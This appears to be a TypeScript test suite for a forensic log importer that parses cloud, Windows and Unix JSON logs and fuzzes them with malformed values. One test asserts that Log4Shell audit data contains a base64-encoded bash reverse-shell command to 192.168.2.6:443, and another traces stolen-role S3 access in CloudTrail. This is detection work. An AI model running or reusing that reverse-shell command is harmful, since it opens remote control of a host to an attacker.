/** JSON of tools and clouds, as each of them writes it: known by its keys, named as everywhere else. */
import { expect, test } from 'vitest';
import { eventsOf } from '#test/support/events-of.ts';
import { readAll, readBytes } from '#test/support/read-evidence.ts';
import { cloudSamples } from '#test/support/json-samples-cloud.ts';
import { unixSamples } from '#test/support/json-samples-unix.ts';
import { windowsSamples } from '#test/support/json-samples-windows.ts';
import { realPath, realTest } from '#test/support/real-data.ts';
import { jsonArrayReader } from '#workers/readers/json/json-array.ts';
import { jsonLinesReader } from '#workers/readers/json/json-lines.ts';

const samples = [...windowsSamples, ...cloudSamples, ...unixSamples];

for (const { layout, what, record, time, values, recordId } of samples) {
  test(`${layout} ${what}`, async () => {
    const line = JSON.stringify(record);
    const lines = await readBytes(`${line}\n${line}\n`);
    expect(lines).toMatchObject({ format: 'json-lines', imported: 2, rejects: [], problems: [] });
    expect(jsonLinesReader.cardOf(lines.prepared!.state)).toBe(layout);
    const [event] = eventsOf(lines.batches);
    expect(event).toMatchObject({ time, values });
    expect(event!.document).toBe(line);
    if (recordId !== undefined) expect(event!.recordId).toBe(recordId);
    // The same in a list, indented.
    const list = await readBytes(JSON.stringify([record, record], null, 2));
    expect(list).toMatchObject({ format: 'json', imported: 2 });
    expect(jsonArrayReader.cardOf(list.prepared!.state)).toBe(layout);
    expect(eventsOf(list.batches)[1]).toMatchObject({ time, values });
  });
}

test('every layout has a card, and every card a sample or a test of its own', () => {
  const ids = jsonLinesReader.cards.map(({ id }) => id);
  expect(new Set(ids).size).toBe(ids.length);
  const elsewhere = ['mordor', 'sentinel', 'winlogbeat', 'ecs', 'suricata', 'json-lines'];
  const sampled = new Set([...samples.map(({ layout }) => layout), ...elsewhere]);
  expect(ids.filter((id) => !sampled.has(id))).toEqual([]);
  for (const { label, knownBy, times } of jsonLinesReader.cards) {
    expect(label.length > 3 && knownBy.length > 3 && times.length > 3).toBe(true);
  }
});

test('fields inside of texts are listed under their own names, behind the text', () => {
  const inside = (record: object): readonly { name: string; value: string }[] =>
    jsonLinesReader.fields(JSON.stringify(record), {});
  const audit = inside({ UserIds: 'ann', AuditData: '{"Operation":"X","Item":{"Id":"7"}}' });
  expect(audit.map(({ name }) => name)).toEqual(['UserIds', 'AuditData', 'Operation', 'Item.Id']);
  const xml = windowsSamples.find(({ what }) => what === 'with XML in _raw')!.record;
  expect(inside(xml)).toContainEqual({ name: 'winlog.event_data.TargetUserName', value: 'bob' });
  expect(inside({ _raw: '{"broken', a: 1 }).map(({ name }) => name)).toEqual(['_raw', 'a']);
});

test('what is wrong inside an export costs only what was inside', async () => {
  const broken = [
    {
      _time: '2024-03-01T10:00:00Z',
      _raw: '<Event xmlns="x"><System>',
      host: 'h',
      sourcetype: 's',
    },
    { _time: '2024-03-01T10:00:00Z', _raw: '{"eventName":', host: 'h', sourcetype: 's' },
    { _time: '2024-03-01T10:00:00Z', _raw: null, result: 7 },
    { CreationDate: '2024-03-01T10:00:00', Operations: 'X', UserIds: 'ann', AuditData: '{"broken' },
    { group: 'g', document: { data: { Event: { System: 5 } } }, timestamp: '2024-03-01T10:00:00Z' },
    {
      __container_type__: 'event',
      data_type: 'windows:evtx:record',
      timestamp: 1_709_287_200_000_000,
      xml_string: '<Event',
      message: 7,
    },
    { time: '2024-03-01T10:00:00Z', category: 'SignInLogs', properties: [] },
    { __REALTIME_TIMESTAMP: '1709287200000000', MESSAGE: [1, 'x', {}] },
    {
      TimeGenerated: '2024-03-01T10:00:00Z',
      SyslogMessage: {},
      EventType: 'AUOMS_EXECVE',
      EventData: 7,
    },
    { 'System.EventID': 1, 'System.__proto__.x': 1, 'System.TimeCreated': '2024-03-01T10:00:00Z' },
    { ts: 1_709_287_200, id: { __proto__: 1 }, _path: '__proto__' },
  ];
  const { imported, error, batches } = await readBytes(
    broken.map((row) => JSON.stringify(row)).join('\n'),
  );
  expect(error).toBeUndefined();
  expect(imported).toBe(broken.length);
  expect(eventsOf(batches)[3]!.values).toMatchObject({ 'event.action': 'X', 'user.name': 'ann' });
});

/** Copies of a record with one member, at any depth, put in another's place. */
function* withOdd(record: unknown, odd: unknown, depth = 1): Iterable<unknown> {
  if (typeof record !== 'object' || record === null || depth > 5) return;
  for (const key of Object.keys(record)) {
    const inner = (record as Record<string, unknown>)[key];
    const copies = [odd, ...withOdd(inner, odd, depth + 1)];
    for (const copy of copies) {
      yield Array.isArray(record)
        ? record.map((item: unknown, at) => (String(at) === key ? copy : item))
        : { ...record, [key]: copy };
    }
  }
}

const deep = JSON.parse(`${'['.repeat(60)}1${']'.repeat(60)}`) as unknown;

test.each([
  ['null', null],
  ['an empty object', {}],
  ['an empty list', []],
  ['a list of odd things', [null, 7, { a: [{}] }, '']],
  ['a large number', 1e300],
  ['a negative number', -1],
  ['truth', true],
  ['nothing', ''],
  ['text that begins like an event', '<Event><System>'],
  ['text that begins like JSON', '{"a":[{'],
  ['a lone surrogate', '\ud800'],
  ['deep lists', deep],
])('%s in the place of any value harms no layout', async (_name, odd) => {
  const rows = samples.flatMap(({ record }) => [...withOdd(record, odd)]);
  expect(rows.length).toBeGreaterThan(300);
  const { imported, rejects, error } = await readBytes(
    rows.map((row) => JSON.stringify(row)).join('\n'),
    { format: 'json-lines' },
  );
  expect(error).toBeUndefined();
  expect(imported + rejects.length).toBe(rows.length);
});

const AUOMS = 'data/linux/log4shell_auoms_auditd_syslog.zip';

realTest(
  AUOMS,
  'Log4Shell in the audit records of Azure’s agent: what the Java server started',
  async () => {
    const [member] = await readAll(realPath(AUOMS), { name: 'unknown' });
    const starts = eventsOf(member!.batches).filter(
      ({ values }) => values['event.action'] === 'created-process',
    );
    const commands = starts.map(({ values }) => values['process.command_line']);
    expect(commands).toContain(
      'bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"',
    );
    expect(commands).toContain('base64 -d');
    expect(commands).toContain('bash -i');
    expect(starts[0]!.values).toMatchObject({
      'event.category': 'process',
      'user.name': 'tomcat',
      'host.name': 'UBUNTU5',
    });
  },
);

const CLOUDTRAIL = 'data/cloud/cloudtrail_ec2_proxy_s3_exfiltration.zip';

realTest(
  CLOUDTRAIL,
  'stolen credentials of a role: its session lists and fetches from S3',
  async () => {
    const [member] = await readAll(realPath(CLOUDTRAIL), { name: 'unknown' });
    const stolen = eventsOf(member!.batches).filter(({ values }) =>
      String(values['user.id']).includes('BankingWAFRole'),
    );
    const s3 = stolen.filter(({ values }) => values['event.provider'] === 's3.amazonaws.com');
    const actions = new Set(s3.map(({ values }) => values['event.action']));
    expect([...actions].sort()).toEqual(['GetObject', 'ListBuckets', 'ListObjects']);
    expect(
      s3.every(({ values }) => String(values['user.name']).endsWith('/i-0317f6c6b66ae9c40')),
    ).toBe(true);
    expect(s3.every(({ values }) => values['user_agent.original'] !== undefined)).toBe(true);
  },
);
